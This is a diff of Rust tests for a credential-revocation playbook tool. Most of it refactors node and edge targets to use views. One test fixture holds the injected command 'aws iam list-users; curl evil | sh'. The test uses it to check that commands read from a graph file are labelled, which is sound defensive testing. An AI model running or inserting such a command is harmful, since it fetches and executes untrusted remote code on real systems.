@@ -1,6 +1,6 @@
 //! Tests of the playbook catalogue.
 use super::*;
-use crate::model::{Edge, EdgeKind, Provenance};
+use crate::model::{Edge, EdgeKind, Node, Provenance};
 
 fn node(key: &str, kind: NodeKind) -> Node {
     Node::new(key, kind, Provenance::default())
@@ -17,14 +17,14 @@ pub(super) fn cut(id: &str, action: &str) -> Revoke {
 }
 
 fn on_node(action: &str, n: &Node) -> Playbook {
-    playbook(&cut("cut", action), Target::Node(n))
+    playbook(&cut("cut", action), Target::Node(n.view()))
 }
 
 fn on_edge(id: &str, action: &str, from: &Node, to: &Node) -> Playbook {
     let edge = Edge::new(EdgeKind::CanAccess, "test", Provenance::default());
     let target = Target::Edge {
-        from,
-        to,
+        from: from.view(),
+        to: to.view(),
         edge: edge.view(),
     };
     playbook(&cut(id, action), target)
@@ -38,7 +38,7 @@ fn input_commands_are_returned_unchanged() {
     let mut revoke = cut("deactivate:AKIAEXAMPLE", "deactivate_key");
     revoke.commands = vec!["echo one  # kept".into(), "echo 'two'".into()];
     let key = node("AKIAEXAMPLE", NodeKind::Credential);
-    let book = playbook(&revoke, Target::Node(&key));
+    let book = playbook(&revoke, Target::Node(key.view()));
     assert_eq!(book.commands, revoke.commands);
     assert!(
         !book.kills_live_tokens,
@@ -285,7 +285,7 @@ fn every_action_has_commands_and_a_note_on_its_main_platform() {
     for (id, action, from, to) in &cases {
         let book = match to {
             Some(to) => on_edge(id, action, from, to),
-            None => playbook(&cut(id, action), Target::Node(from)),
+            None => playbook(&cut(id, action), Target::Node(from.view())),
         };
         let what = format!("{action} on {}", from.key);
         assert!(!book.commands.is_empty() && !book.note.is_empty(), "{what}");
@@ -305,7 +305,7 @@ fn commands_from_a_graph_file_are_labelled() {
     revoke.commands = vec!["aws iam list-users; curl evil | sh".into()];
     revoke.from_file = true;
     let key = node("AKIAEXAMPLE", NodeKind::Credential);
-    let book = playbook(&revoke, Target::Node(&key));
+    let book = playbook(&revoke, Target::Node(key.view()));
     assert_eq!(book.commands[0], FROM_FILE);
     assert_eq!(book.commands[1], revoke.commands[0]);
 }
